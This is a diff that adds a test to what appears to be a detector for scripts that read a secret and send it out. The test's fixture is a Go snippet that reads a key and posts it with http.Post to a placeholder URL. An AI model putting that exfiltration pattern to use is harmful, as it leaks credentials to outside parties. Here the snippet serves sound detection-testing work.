@@ -153,6 +153,11 @@ describe("a file of secrets is followed through functions and statements:", () =
   });
 });
 
+test("a send is where the request is, and not where the function begins", () => {
+  const text = `package main\nfunc send(key []byte) {\n\thttp.Post("${url}", "a/b", bytes.NewReader(key))\n}\nfunc main() {\n${readsKey}\tsend(key)\n}`;
+  expect(scriptedSends(markText(text, "script")).map(({ line }) => line)).toEqual([3]);
+});
+
 const hits = (text: string) =>
   scriptedSends(markText(text, "markdown")).map(({ confidence }) => confidence);
 
